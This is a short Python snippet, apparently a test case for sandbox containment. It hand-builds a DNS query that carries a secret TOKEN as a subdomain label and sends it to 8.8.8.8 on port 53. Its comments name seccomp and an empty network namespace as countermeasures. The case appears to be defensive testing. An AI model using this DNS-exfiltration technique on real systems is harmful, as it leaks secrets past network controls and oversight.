# title: sends data out in a DNS packet of its own
# harm: reaches
# B: seccomp refuses sockets
# C: an empty network namespace
name = b''.join(bytes([len(p)]) + p for p in (TOKEN.encode(), b'example')) + b'\0'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + name + b'\0\1\0\1', ('8.8.8.8', 53)); time.sleep(0.2)
